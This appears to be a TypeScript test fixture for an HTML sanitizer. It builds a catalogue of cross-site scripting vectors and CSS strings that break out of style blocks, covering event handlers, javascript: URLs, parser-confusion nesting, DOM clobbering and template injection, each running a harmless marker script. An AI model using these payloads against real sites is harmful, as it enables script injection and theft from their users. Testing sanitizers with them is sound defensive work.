/** Script of every vector and generated page: it reports to the window at the top, across origins too, that it ran. */
export const RUN = `top.postMessage('ran','*')`

/** RUN in a double-quoted attribute or string of CSS. */
const CALL = RUN

/**
 * Ways to run script that are known from the test suites of sanitizers and from reports about them: what a page may
 * hold, in text as a server sends it. `%` stands for the script.
 */
const HTML = `
<script>%</script>
<svg><script>%</script></svg>
<svg><script href="data:text/javascript,%"></script></svg>
<math><mtext><script>%</script></mtext></math>
<img src=x onerror="%">
<body onload="%">
<svg onload="%"></svg>
<svg/onload="%">
<video><source onerror="%"></video>
<audio src=x onerror="%"></audio>
<object data="x:" onerror="%"></object>
<input autofocus onfocus="%">
<details open ontoggle="%"><summary>a</summary></details>
<div onpointerover="%" onmouseover="%" onclick="%">hover</div>
<marquee onstart="%">a</marquee>
<style>@keyframes a{}</style><p style="animation:a 1ms" onanimationstart="%">a</p>
<p style="transition:color 1ms" ontransitionend="%" tabindex=0>a</p>
<a href="javascript:%">a</a>
<a href=" &#1;java&#9;script&#58;%">a</a>
<a href="JaVaScRiPt&colon;%">a</a>
<a href="javascript://%0a%">a</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A%">a</a>
<base href="javascript://"><a href="/. /;%;//#">a</a>
<base href="javascript:/a/-%-//"><a href="../lol">a</a>
<area href="javascript:%" shape=default>
<map name=m><area href="javascript:%" shape=rect coords="0,0,99,99"></map><img usemap="#m" src=x width=99 height=99>
<form action="javascript:%"><input type=submit></form>
<form id=f></form><button form=f formaction="javascript:%">a</button>
<input type=image form=f formaction="java&#10;script:%"><form id=f></form>
<isindex action="javascript:%" type=image>
<iframe src="javascript:%"></iframe>
<iframe srcdoc="<script>%</script>"></iframe>
<iframe sandbox="allow-scripts" srcdoc="<img src=x onerror=%>"></iframe>
<iframe sandbox="" srcdoc="<svg onload=%>"></iframe>
<iframe srcdoc="&lt;iframe srcdoc='&amp;lt;script>%&amp;lt;/script>'>&lt;/iframe>"></iframe>
<iframe src="data:text/html,<script>%</script>"></iframe>
<iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=&quot;%&quot;/>"></iframe>
<iframe></iframe><xmp></iframe><img src=x onerror=%></xmp>
<embed src="javascript:%">
<embed src="data:text/html,<script>%</script>">
<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=&quot;%&quot;/>">
<object data="javascript:%"></object>
<object data="data:text/html,<script>%</script>"></object>
<object data="data:text/html;charset=utf-8;base64,PHNjcmlwdD50b3AucG9zdE1lc3NhZ2UoJ3JhbicsJyonKTwvc2NyaXB0Pg=="></object>
<object data="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload=&quot;%&quot;/>"></object>
<object data="data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>%</x:script>"></object>
<frameset><frame src="javascript:%"></frameset>
<frameset onload="%"></frameset>
<link rel=stylesheet href="javascript:%"><link rel=import href="data:text/html,<script>%</script>">
<link rel="icon" href=x onerror="%">
<meta http-equiv=refresh content="0;url=javascript:%">
<meta http-equiv=refresh name=viewport content="0;url=data:text/html,<script>%</script>">
<svg><a href="javascript:%"><text y=20>a</text></a></svg>
<svg><a xlink:href="javascript:%"><text y=20>a</text></a></svg>
<svg><a><animate attributeName=href values="javascript:%"></animate><text y=20>a</text></a></svg>
<svg><a><set attributeName="xlink:href" to="javascript:%"></set><text y=20>a</text></a></svg>
<svg><a xlink:href=x><animate attributeName=" href " from="javascript:%" to="javascript:%" dur=9s></animate><text y=20>a</text></a></svg>
<svg><animate onbegin="%" attributeName=x dur=1s></animate></svg>
<svg><set attributeName=onclick to="%"></set><rect width=99 height=99></rect></svg>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:%'><rect width='99' height='99'/></a></svg>#x"></use></svg>
<svg><foreignObject><iframe srcdoc="<script>%</script>"></iframe></foreignObject></svg>
<svg><style><img src=x onerror="%"></style></svg>
<svg><style>&lt;img src=x onerror="%"&gt;</style></svg>
<svg></p><style><a id="</style><img src=x onerror=%>">
<svg><title><style><img title="</style><img src=x onerror=%>"></style></title></svg>
<svg><desc><svg><style></desc><img src=x onerror=%></style></svg></desc></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=%&gt;">
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=% src>">
<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=%>"></math></style></mglyph></table></mtext></math>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=%></style></annotation-xml></math>
<math href="javascript:%"><mi>a</mi></math>
<math><maction actiontype="statusline#http://x" xlink:href="javascript:%"><mi>a</mi></maction></math>
<noscript><p title="</noscript><img src=x onerror=%>"></noscript>
<noscript><style></noscript><img src=x onerror=%></style></noscript>
<template><script>%</script></template><template><s><template><img src=x onerror=%></template></s></template>
<div><template shadowrootmode=open><img src=x onerror="%"><script>%</script></template></div>
<xmp><p title="</xmp><img src=x onerror=%>"></p></xmp>
<noembed><p title="</noembed><img src=x onerror=%>"></noembed>
<noframes><p title="</noframes><img src=x onerror=%>"></noframes>
<plaintext></plaintext><img src=x onerror=%>
<listing>&lt;img src=x onerror=%&gt;</listing>
<textarea></textarea><!--</textarea><img src=x onerror=%>-->
<textarea>&lt;/textarea&gt;&lt;img src=x onerror=%&gt;</textarea>
<title>&lt;/title&gt;&lt;img src=x onerror=%&gt;</title>
<!--><img src=x onerror=%>-->
<!--!><img src=x onerror=%>--!>
<![CDATA[<img src=x onerror=%>]]>
<svg><![CDATA[</svg><img src=x onerror=%>]]></svg>
<?xml-stylesheet href="javascript:%"?><?a ><img src=x onerror=%>
<option><style></option></select><b><img src=x onerror=%></style></option>
<select><option><iframe></select><b><script>%</script>
<select><style></select><img src=x onerror=%></style></select>
<table><td background="javascript:%"><form action="javascript:%"><input type=submit></td></table>
<image src=x onerror="%">
<applet code="x" archive="javascript:%" onload="%"><img src=x onerror="%"></applet>
<keygen autofocus onfocus="%">
<p style="background:url(javascript:%);-moz-binding:url(data:text/xml,x);behavior:url(x)">a</p>
<p style='content:"</style><img src=x onerror=%>"'>a</p>
<p id="</style><img src=x onerror=%>" class="</style><script>%</script>">a</p>
<p title='"><img src=x onerror=%>'>a</p>
<p title="'><img src=x onerror=%>">a</p>
<p data-a='\`><img src=x onerror=%>'>\`</p>
<p a"b=c onx/onclick="%" <img src=x onerror=%>a</p>
<p {...%}>a</p>
<p title="{%}">{%}</p>
<p>\${%}</p><p>\`+%+\`</p>
<x{...%}>a</x{...%}>
<x-a{...%}>a</x-a{...%}>
<x.y:z onload="%">a</x.y:z>
<a:script xmlns:a="http://www.w3.org/1999/xhtml">%</a:script>
<x-a dangerouslysetinnerhtml='{"__html":"<img src=x onerror=%>"}' innerhtml="<img src=x onerror=%>" ref="%" key="%">a</x-a>
<div is="x" v-html="'<img src=x onerror=%>'" @click="%" :inner-html="'<img src=x onerror=%>'" x-data="%" x-init="%" ng-app ng-init="%">{{%}}</div>
<div>{{constructor.constructor("%")()}}</div>
<!-- wp:html --><script>%</script><!-- /wp:html -->
<p>&lt;!-- wp:html --&gt;&lt;script&gt;%&lt;/script&gt;&lt;!-- /wp:html --&gt;</p>
<p title="--><img src=x onerror=%><!--" class="--><img src=x onerror=%>">a</p>
<form><input name=attributes><input name=getAttribute><input name=parentElement><input name=localName autofocus onfocus="%"></form>
<form id=x><input name=childNodes><input name=shadowRoot><input name=matches></form><button form=x formaction="javascript:%">a</button>
<form name=body><p onclick="%">a</p></form><img name=documentElement src=x onerror="%"><img name=createElement src=x onerror="%"><form name=querySelectorAll></form>
<style>.m{display:none}.m[srcdoc],.m[onclick="%"],.m.o\\{\\}{display:block}</style><button id=b>b</button><iframe class=m id=m></iframe><script>b.onclick=()=>{m.setAttribute("onclick","%");m.setAttribute("srcdoc","<img src=x onerror=%>");m.classList.toggle("o{}")}</script>
<p>*/}<img src=x onerror=%>{/*</p><!-- */}<img src=x onError={()=>{%}}/>{/* -->
`

/** Sheets that leave their `<style>`, by every place in CSS that holds free text. \`%\` stands for the break-out. */
const CSS = `
.q::before{content:"%"}
.q{--x:%}
.q{--x:"%"}
.q{--x:{%};--y:url(%)}
.q{quotes:"%" "%"}
.q{background:url("data:image/svg+xml,%")}
.q{background:url(%)}
.q{font-family:"%"}
@font-face{font-family:"%";src:url("x%")}.q{font-family:"%"}
@keyframes "%"{to{color:red}}.q{animation:"%" 1s}
.q{animation:\\3c\\/style\\3e x 1s}
@layer \\3c\\/style\\3e{.q{color:red}}
@container \\3c\\/style\\3e (width>1px){.q{color:red}}
.q{container-name:\\3c\\/style\\3e}
.q{grid-template-areas:"% a"}
.q{counter-reset:\\3c\\/style\\3e 1}
.q[title="%"],.q:not([a="%"]){color:red}
[data-theme="%"] .q,.dark [data-state="%"].q{color:red}.q[aria-expanded="%"]{color:blue}
.q:is([data-x="%"],p){color:red}.q:hover[title="%"]{color:blue}
@supports (--a:"%"){.q{color:red}}
@media (min-width:1px){.q::after{content:"%"}}
.q::after{content:"a\\
%"}
.q::after{content:"\\%"}
.q::after{content:attr(title "%")}
@property --p{syntax:"*";inherits:false;initial-value:"%"}.q{--p:"%";color:var(--p)}
@import url("data:text/css,.q{content:'%'}");
@import "%";
@charset "%";
@namespace "%";
@page{@top-left{content:"%"}}
@counter-style x{system:cyclic;symbols:"%";suffix:"%"}.q{list-style:x;display:list-item}
/*%*/.q{color:red/*%*/}
.\\3c\\/style\\3e,.q{color:red}
.q{color:red;%}
.q{%:x}
%{color:red}
@media %{.q{color:red}}
.q{transition:"%";will-change:%;image-orientation:"%"}
.q{mask-image:image-set("%" 1x);cursor:url("%"),auto}
.q{view-transition-name:\\3c\\/style\\3e}
`

const lines = (text: string): string[] => text.split('\n').filter((line) => line !== '')

/** What ends a sheet, a template literal or a comment, and runs. */
export const BREAK_OUTS: readonly string[] = [
  `</style><script>${RUN}</script>`,
  `</STYLE\f><img src=x onerror="${CALL}">`,
  `</style/><svg onload=${RUN}>`,
  `<!--</style><script>${RUN}</script>-->`,
  `\`}<img src=x onError={()=>{${RUN}}}/>{\``,
  `\${${RUN}}`,
  `*/}${'`'}</style><script>${RUN}</script>`
]

/** Pages of HTML, each a vector by itself. */
export const HTML_VECTORS: readonly string[] = lines(HTML).map((line) => line.replaceAll('%', RUN))

/** Sheets, each with each break-out; quotation marks in it are those that the place does not end at. */
export const CSS_VECTORS: readonly string[] = lines(CSS.replaceAll('\\\n', '\\\u0001'))
  .map((line) => line.replaceAll('\u0001', '\n'))
  .flatMap((line) => BREAK_OUTS.map((text) => line.replaceAll('%', text.replaceAll('"', "'"))))
